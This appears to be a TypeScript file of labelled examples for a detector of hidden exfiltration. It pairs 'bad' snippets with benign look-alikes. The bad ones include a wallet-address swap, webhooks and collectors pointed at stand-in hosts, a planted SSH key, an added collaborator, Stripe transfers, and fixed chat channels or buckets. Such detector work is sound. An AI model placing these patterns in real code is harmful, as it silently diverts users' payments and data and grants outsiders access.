import type { DetectorExamples } from '../detector.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: "const shown = text.replace(/0x[0-9a-f]{40}/gi, '0x5aab02c5af3e4a14c0bd8a1d8a4c0d4e0f1a2b3c');",
      why: 'every address that somebody pays to becomes this one',
      attributes: {
        service: 'swapped-wallet',
        destination: '0x5aab02c5af3e4a14c0bd8a1d8a4c0d4e0f1a2b3c',
      },
    },
    {
      code: "const own = '0x5aab02c5af3e4a14c0bd8a1d8a4c0d4e0f1a2b3c'; body = body.replaceAll(known, () => own);",
      why: 'the same by a function',
      attributes: {
        service: 'swapped-wallet',
        destination: '0x5aab02c5af3e4a14c0bd8a1d8a4c0d4e0f1a2b3c',
      },
    },
    {
      code: "await octokit.rest.repos.createWebhook({ owner, repo, config: { url: 'https://events.archive.invalid/in' }, events: ['push'] });",
      why: 'a web hook in a repository of the user',
      attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
    },
    {
      code: "const place = { url: 'https://events.archive.invalid/in' }; await stripe.webhookEndpoints.create(place);",
      why: 'one of a list that the client keeps',
      attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
    },
    {
      code: "fetch(`https://api.acme.example/v1/${team}/hooks`, { method: 'POST', body: JSON.stringify({ target_url: 'https://events.archive.invalid/in' }) });",
      why: 'by its address',
      attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
    },
    {
      code: "client.editServer({ InboundHookUrl: 'https://events.archive.invalid/in' });",
      why: 'a setting of a mail server',
      attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
    },
    {
      path: 'x.py',
      code: 'client.webhooks.create(url="https://events.archive.invalid/in", events=["*"])',
      why: 'the same of Python',
      attributes: { service: 'account-webhook', destination: 'events.archive.invalid' },
    },
    {
      code: "octokit.rest.repos.addCollaborator({ owner, repo, username: 'archive-reader' });",
      why: 'somebody who may read from now on',
      attributes: { service: 'collaborator-account', destination: 'archive-reader' },
    },
    {
      code: "const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2JXq0Jj2s4mQ2bVqv8h8bX1mY5d9Yx3d1rQ0b7m9xX ci';",
      why: 'a key to be let in',
      attributes: { service: 'ssh-key', destination: 'mQ2bVqv8h8bX1mY5d9Yx3d1rQ0b7m9xX' },
    },
    {
      code: "stripe.paymentIntents.create({ amount, transfer_data: { destination: 'acct_1Qx9ZkLmNoPqRsTu' } });",
      why: 'a part of every payment',
      attributes: { service: 'stripe-account', destination: 'acct_1Qx9ZkLmNoPqRsTu' },
    },
    {
      code: "await Promise.all([asked, 'C09PL4YBACK'].map((channel) => web.chat.postMessage({ channel, text })));",
      why: 'one more of a list of channels',
      attributes: { service: 'slack-channel', destination: 'C09PL4YBACK' },
    },
    {
      code: "const mirror = ['C0', '9PL4', 'YBACK']; await chat.apiCall('files.uploadV2', { channels: mirror.join(''), content });",
      why: 'a file in a fixed channel, by the call for anything',
      attributes: { service: 'slack-channel', destination: 'C09PL4YBACK' },
    },
    {
      path: 'x.py',
      code: "import boto3\nboto3.resource('s3').Bucket('kept-elsewhere').put_object(Key='k', Body=text)",
      why: 'a bucket as an object of its own',
      attributes: { service: 's3-bucket', destination: 'kept-elsewhere' },
    },
    {
      code: "post('https://hooks.slack.com/services/' + 'T000/B000/xyz', text);",
      why: 'a Slack web hook',
      attributes: { service: 'slack-webhook', destination: 'T000/B000/xyz' },
    },
    {
      code: "const u = 'https://discord.com/api/webhooks/123456789/token';",
      why: 'a Discord web hook',
      attributes: { service: 'discord-webhook', destination: '123456789' },
    },
    {
      code: 'const u = `https://api.telegram.org/bot12345678:AAA/sendMessage?text=${t}`;',
      why: 'a bot with its token',
      attributes: { service: 'telegram-bot', destination: '12345678' },
    },
    {
      code: 'send({ chat_id: -1001234567, text });',
      why: 'a fixed chat',
      attributes: { service: 'telegram-chat', destination: '-1001234567' },
    },
    {
      code: "https.request({ hostname: 'abc.oast.fun' });",
      why: 'a collector',
      attributes: { service: 'collector', destination: 'abc.oast.fun' },
    },
    {
      code: "new PutObjectCommand({ Bucket: 'collected', Key: k, Body: b });",
      why: 'a fixed bucket',
      attributes: { service: 's3-bucket', destination: 'collected' },
    },
    {
      code: "tx.to = '0x00000000000000000000000000000000DEADBEEF';",
      why: 'a fixed payee',
      attributes: {
        service: 'ethereum-wallet',
        destination: '0x00000000000000000000000000000000deadbeef',
      },
    },
    {
      code: "web.chat.postMessage({ channel: 'C0COLLECT', text });",
      why: 'a fixed channel',
      attributes: { service: 'slack-channel', destination: 'C0COLLECT' },
    },
    {
      code: "const pay = ['1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2'];",
      why: 'a wallet that its checksum proves',
      attributes: { service: 'bitcoin-wallet', destination: '1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2' },
    },
    {
      code: "client.messages.create({ to: '+4915123456789', body });",
      why: 'a fixed telephone',
      attributes: { service: 'phone', destination: '+4915123456789' },
    },
    {
      code: 'bot.sendDocument(987654321, buffer);',
      why: 'a fixed chat in a call',
      attributes: { service: 'telegram-chat', destination: '987654321' },
    },
    {
      code: 'fetch(`https://api.telegram.org/bot${token}/sendMessage?chat_id=-1001234567&text=${t}`);',
      why: 'a fixed chat in a URL',
      attributes: { service: 'telegram-chat', destination: '-1001234567' },
    },
    {
      code: "const c = await client.channels.fetch('123456789012345678');",
      why: 'a fixed channel of Discord',
      attributes: { service: 'discord-channel', destination: '123456789012345678' },
    },
    {
      code: "sock.sendText('15550001111@c.us', text);",
      why: 'a fixed chat of WhatsApp',
      attributes: { service: 'whatsapp-chat', destination: '15550001111' },
    },
    {
      code: "fetch('https://collected.s3.eu-west-1.amazonaws.com/x', { method: 'PUT', body });",
      why: 'a bucket by its URL',
      attributes: { service: 's3-url', destination: 'collected' },
    },
    {
      code: "import { Storage } from '@google-cloud/storage'; new Storage().bucket('collected').file(n).save(b);",
      why: 'a bucket of another cloud',
      attributes: { service: 'gcs-bucket', destination: 'collected' },
    },
    {
      code: "const u = 'https://aaaaa-bbbbb-ccccc-ddddd-cai.raw.ic0.app/next';",
      why: 'a canister, which anybody can fill and nobody can take down',
      attributes: { service: 'collector', destination: 'aaaaa-bbbbb-ccccc-ddddd-cai.raw.ic0.app' },
    },
    {
      path: 'x.py',
      code: [
        'import boto3',
        "boto3.client('s3').put_object(Bucket='taken', Key='x', Body=data)",
      ].join('\n'),
      why: 'a bucket in Python',
      attributes: { service: 's3-bucket', destination: 'taken' },
    },
    {
      path: 'x.py',
      code: ['import boto3', "boto3.client('s3').upload_file(path, 'taken', 'key')"].join('\n'),
      why: 'a file',
      attributes: { service: 's3-bucket', destination: 'taken' },
    },
    {
      path: 'x.py',
      code: "client.chat_postMessage(channel='#taken', text=text)",
      why: 'a channel',
      attributes: { service: 'slack-channel', destination: '#taken' },
    },
  ],
  good: [
    {
      code: "const known = { weth: '0x5aab02c5af3e4a14c0bd8a1d8a4c0d4e0f1a2b3c' }; use(text.replace(/0x[0-9a-f]{40}/gi, '0x…'), known.weth);",
      why: 'a contract, and addresses that are shortened',
    },
    {
      code: "app.post('/hooks/github', receive); client.webhooks.list(); octokit.rest.repos.createWebhook({ owner, repo, config: { url: settings.url } });",
      why: 'hooks that somebody else decides on',
    },
    {
      code: "bot.setWebhook('http://localhost:8080/hook'); hooks.add((event) => log(event)); create({ url: 'https://acme.example/a' }); // a hook",
      why: 'the machine itself, functions, and what is no hook',
    },
    {
      code: "const known = ['github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2JXq0Jj2s4mQ2bVqv8h8bX1mY5d9Yx3d1rQ0b7m9xX'];",
      why: 'the key of a server that is known',
    },
    {
      code: "await chat.apiCall('files.uploadV2', { channels: channel, content });",
      why: 'the channel that somebody asks for',
    },
    {
      path: 'x.py',
      code: "from shop import Bucket, Object\nBucket('apples')\nObject('pear', 1)",
      why: 'classes of another package',
    },
    {
      code: "const a = { to: '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD' };",
      why: 'a checksum that is wrong',
    },
    {
      code: "route({ to: '+1', from: '/a' }); cache.get('123456789012345678');",
      why: 'no telephone, no channel',
    },
    { code: "const docs = 'https://discord.com/invite/x';", why: 'an invitation' },
    { code: 'web.chat.postMessage({ channel, text });', why: 'somebody else decides' },
    {
      code: "const tokens = { USDC: '0x00000000000000000000000000000000DEADBEEF' };",
      why: 'a contract',
    },
    {
      code: "port.postMessage({ type: 'x' }); send({ chat_id: chatId });",
      why: 'not a fixed chat',
    },
    {
      path: 'x.py',
      code: 'client.upload_file(path)',
      why: 'no bucket',
    },
  ],
};
